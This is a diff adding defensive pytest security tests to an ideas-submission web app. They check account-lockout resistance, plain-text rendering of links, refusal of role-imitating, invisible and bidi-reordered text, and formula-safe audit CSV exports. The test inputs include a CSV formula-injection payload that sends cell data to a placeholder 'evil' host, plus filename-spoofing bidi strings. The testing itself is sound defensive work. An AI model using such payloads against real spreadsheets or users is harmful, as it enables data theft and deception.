@@ -6,7 +6,9 @@ docs/threat-model.md lists them, channel by channel."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import re
 
 import pytest
@@ -383,3 +385,265 @@ async def test_no_mail_of_a_full_journey_pairs_an_address_with_its_idea(personas
     assert to_alice >= 5 and to_dan >= 1
     # those whose relation to the idea is no secret still get the details
     assert any(rcpts == [erin.email] and title.encode() in raw for rcpts, raw in smtp_sink.raw)
+
+
+# -- 8. anyone can lock anyone out ----------------------------------------------------------
+
+
+async def test_reset_requests_never_lock_the_victim_out_nor_void_their_link(
+    personas, client, monkeypatch
+):
+    """Six anonymous /password/forgot requests for the victim's address: the
+    victim's correct password still logs in (browser and API), and the first
+    reset link in their inbox still works. Failed passwords still count."""
+    from ideas import security
+    from ideas.config import get_settings
+    from ideas.tables import Invitation
+    from tests.notify_helpers import clear_outbox, outbox_messages
+
+    rates = get_settings().rate_limits
+    monkeypatch.setitem(rates, "login_account", 5)
+    alice = await personas.get("alice_support")
+    clear_outbox()
+    await client.get("/password/forgot")
+    csrf = client.cookies.get("tp_csrf")
+    codes = []
+    for _ in range(6):
+        r = await client.post("/password/forgot", data={"email": alice.email, "_csrf_token": csrf})
+        codes.append(r.status_code)
+    # the sixth is refused by the reset requests' own counter (5 a minute)
+    assert codes[:5] == [200] * 5, codes
+    links = {
+        security.digest(token): token
+        for m in outbox_messages()
+        if alice.email in m["To"]
+        for token in re.findall(r"token=([\w-]+)", m.get_body(("plain",)).get_content())
+    }
+    assert len(links) == 5
+    # the link of the first request, in the victim's inbox
+    first_issued = await Invitation.select().order_by(Invitation.id).first().run()
+    first = links[first_issued["token_hash"]]
+    web = await alice.browser()  # asserts the 303 of a successful log-in
+    assert (await web.get("/")).status_code == 200
+    token = await client.post(
+        "/api/v1/auth/token", json={"email": alice.email, "password": alice.password}
+    )
+    assert token.status_code == 201
+    # the first link still sets a password
+    form = await client.get("/password/set", params={"token": first})
+    assert form.status_code == 200 and "Set" in form.text
+    r = await client.post(
+        "/password/set",
+        data={
+            "token": first,
+            "password": "a brand new passphrase",
+            "password_again": "a brand new passphrase",
+            "_csrf_token": csrf,
+        },
+    )
+    assert r.status_code in (200, 303), r.text[:300]
+    # failed password checks still count against the account
+    for _ in range(5):
+        r = await client.post(
+            "/api/v1/auth/token", json={"email": alice.email, "password": "wrong password"}
+        )
+        assert r.status_code == 401
+    r = await client.post(
+        "/api/v1/auth/token", json={"email": alice.email, "password": "a brand new passphrase"}
+    )
+    assert r.status_code == 429
+
+
+# -- 10. a tracking link in a council question --------------------------------------------
+
+TRACKER = "https://track.example.net/q?id=7"
+
+
+async def test_a_link_in_a_council_question_is_plain_text_with_a_warning(personas):
+    from tests.notify_helpers import decide, drain, open_session, outbox_messages
+
+    alice = await personas.get("alice_support")
+    idea = (await alice.api().post("/api/v1/ideas", json=idea_payload())).json()["id"]
+    bob, session = await open_session(personas)
+    question = f"Could you read {TRACKER} and www.example.org/page first, then say who asked?"
+    await decide(bob, idea, session, "needs_info", question=question)
+    await drain()
+    web = await alice.browser()
+    for url in (f"/fragments/ideas/{idea}/question", "/me/notifications", f"/ideas/{idea}"):
+        r = await web.get(url)
+        assert r.status_code == 200, url
+        assert "<a" not in r.text.split("track.example.net")[0].rsplit("\n", 1)[-1], url
+        assert f'href="{TRACKER}' not in r.text and 'href="www.example.org' not in r.text
+    fragment = (await web.get(f"/fragments/ideas/{idea}/question")).text
+    assert "track.example.net/q?id=7" in fragment
+    assert 'data-testid="question-link-warning"' in fragment
+    inbox = (await web.get("/me/notifications")).text
+    assert "contains a web address" in inbox
+    # the council sees it as text too
+    council = await bob.browser()
+    r = await council.get(f"/fragments/ideas/{idea}/question")
+    assert f'href="{TRACKER}' not in r.text and "contains a web address" in r.text
+    # and no mail carries the question, let alone a link a mail program would make
+    assert not any("track.example.net" in m.as_string() for m in outbox_messages())
+
+
+# -- 12. names that imitate role labels ----------------------------------------------------
+
+ROLE_NAMES = ["Submitter", "  submitter ", "CX council", "cx-Council", "C X  COUNCIL", "Ѕubmіtter"]
+
+
+async def test_no_person_may_be_named_like_a_role_label(personas):
+    adam = await (await personas.get("adam_admin")).browser()
+    dept = (await Department.select(Department.id).where(Department.name == "IT"))[0]["id"]
+    for i, name in enumerate(ROLE_NAMES):
+        r = await adam.form(
+            "/admin/people/new",
+            {"email": f"fake{i}@example.com", "name": name, "department_id": str(dept)},
+        )
+        assert r.status_code == 422, name
+        assert "role label" in r.text
+    dan = await personas.get("dan_sales")
+    r = await adam.form(
+        f"/admin/people/{dan.id}",
+        {"name": "Submitter\u200b", "title": "", "department_id": str(dept)},
+    )
+    assert r.status_code == 422
+    assert (await User.select(User.name).where(User.id == dan.viewer.id).first())[
+        "name"
+    ] == dan.name
+    csv_text = "email,name,title,department,roles\nmimic@example.com,CX Council,Staff,IT,\n"
+    preview = await adam.form("/admin/import", {"csv_text": csv_text})
+    assert "role label" in preview.text
+    # the command line goes through the same rule
+    from ideas import people
+    from ideas.errors import Invalid
+
+    with pytest.raises(Invalid, match="role label"):
+        await people.create_user(
+            people.NewUser(
+                email="cli@example.com", name="Sub mitter", title="", department="IT", roles=()
+            )
+        )
+    assert not await User.exists().where(User.email.like("%mimic%")).run()
+    # a real name that merely contains a label is fine
+    r = await adam.form(
+        "/admin/people/new",
+        {"email": "ada@example.com", "name": "Ada Submitterson", "department_id": str(dept)},
+    )
+    assert r.status_code == 303
+
+
+# -- 14. invisible and bidi-reordered text --------------------------------------------------
+
+
+async def test_invisible_or_reordered_titles_are_refused_everywhere(personas):
+    alice = await personas.get("alice_support")
+    api = alice.api()
+    invisible = idea_payload(title="\u200b" * 10)
+    r = await api.post("/api/v1/ideas", json=invisible)
+    assert r.status_code in (400, 422) and "title" in r.text
+    r = await api.post(
+        "/api/v1/ideas", json=idea_payload(title="ab\u200b\u200c\u200d\u2060\ufeffcd  ")
+    )
+    assert r.status_code in (400, 422) and "title" in r.text
+    for control in ("\u202e", "\u2066", "\u202a"):
+        r = await api.post("/api/v1/ideas", json=idea_payload(title=f"Refund {control}gnp.exe now"))
+        assert r.status_code == 400 and "bidirectional" in r.text
+    web = await alice.browser()
+    r = await web.form("/ideas/new", {**idea_payload(), "title": "Refund \u202egnp.exe now"})
+    assert r.status_code == 400
+    idea = (await api.post("/api/v1/ideas", json=idea_payload())).json()["id"]
+    r = await api.post(f"/api/v1/ideas/{idea}/comments", json={"body": "\u200b\u200b\u200b"})
+    assert r.status_code in (400, 422) and "body" in r.text
+    r = await api.post(f"/api/v1/ideas/{idea}/comments", json={"body": "see \u2067this\u2069"})
+    assert r.status_code == 400
+    from tests.notify_helpers import open_session
+
+    bob, session = await open_session(personas)
+    r = await bob.api().post(
+        f"/api/v1/ideas/{idea}/decision",
+        json={"session_id": session, "outcome": "needs_info", "question": "Why \u202e?"},
+    )
+    assert r.status_code == 400
+    adam = await (await personas.get("adam_admin")).browser()
+    r = await adam.form("/admin/departments", {"name": "\u200b\u200b"})
+    assert r.status_code == 422
+    from ideas.tables import Comment, Idea
+
+    assert await Idea.count().run() == 1 and await Comment.count().run() == 0
+
+
+# -- 15. the audit CSV's actor column --------------------------------------------------------
+
+
+async def test_the_audit_csvs_actor_column_cannot_start_a_formula(personas):
+    adam = await personas.get("adam_admin")
+    for i, name in enumerate(['=HYPERLINK("http://evil/"&A1)', "+1+1", "-2", "@SUM(A1)", "\tx"]):
+        evil = await personas.make(f"evil{i}", name, "IT", "IT", ("admin",))
+        r = await (await evil.browser()).form("/admin/departments", {"name": f"Dept {i}"})
+        assert r.status_code == 303
+    r = await (await adam.browser()).get("/admin/audit.csv")
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    actors = [row["actor"] for row in rows if row["action"] == "department.create"]
+    assert len(actors) == 5
+    for actor in actors:
+        assert actor[0] not in "=+-@\t\r", actor
+
+
+# -- 9. small owning departments: one rule everywhere --------------------------------------
+
+
+async def test_a_small_owning_department_is_named_alike_on_every_output(personas):
+    """The owning department is the team that delivered: a two-person Legal
+    team that shipped an idea is named on the idea page, Shipped, the API, the
+    ideas CSV and the leaderboard (and its CSV), and counted in full."""
+    from tests.notify_helpers import decide, open_session
+
+    await _department(personas, "Legal", 2, "legal")
+    alice = await personas.get("alice_support")
+    legal = (await Department.select(Department.id).where(Department.name == "Legal"))[0]["id"]
+    idea = (await alice.api().post("/api/v1/ideas", json=idea_payload())).json()["id"]
+    bob, session = await open_session(personas)
+    await decide(bob, idea, session, "accept", owning_department_id=str(legal))
+    action = await bob.api().post(
+        f"/api/v1/ideas/{idea}/actions",
+        json={"title": "Update the contract", "owner_id": bob.id, "due_on": "2031-01-01"},
+    )
+    assert action.status_code == 201, action.text
+    for status in ("doing", "done"):
+        r = await bob.api().patch(f"/api/v1/actions/{action.json()['id']}", json={"status": status})
+        assert r.status_code == 200, r.text
+    r = await bob.api().post(
+        f"/api/v1/ideas/{idea}/ship", json={"note": "Contracts now carry the renewal date."}
+    )
+    assert r.status_code == 200, r.text
+    carol = await (await personas.get("carol_leader")).browser()
+    api_idea = (await alice.api().get(f"/api/v1/ideas/{idea}")).json()
+    assert api_idea["owning_department"]["name"] == "Legal"
+    assert "Legal" in (await carol.get(f"/ideas/{idea}")).text
+    assert "Legal" in (await carol.get("/shipped")).text
+    rows = list(csv.DictReader(io.StringIO((await carol.get("/api/v1/export/ideas.csv")).text)))
+    assert [row["owning_department"] for row in rows] == ["Legal"]
+    board = (await carol.get("/api/v1/leaderboard")).json()
+    assert [(e["name"], e["shipped"]) for e in board["by_owning_department"]] == [("Legal", 1)]
+    board_csv = (await carol.get("/api/v1/export/leaderboard.csv")).text
+    assert "by_owning_department,1,Legal,1" in board_csv
+    assert "Legal" in (await carol.get("/leaders")).text
+
+
+def test_every_test_named_in_the_threat_model_exists():
+    """docs/threat-model.md names the test behind each channel; those of this
+    branch must exist (channels closed on other branches are marked so)."""
+    import importlib
+    from pathlib import Path
+
+    page = (Path(__file__).resolve().parent.parent / "docs" / "threat-model.md").read_text()
+    named = set(re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", page))
+    assert len(named) >= 14
+    missing = []
+    for path, name in sorted(named):
+        module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
+        if not hasattr(module, name):
+            missing.append(f"{path}::{name}")
+    assert not missing, missing
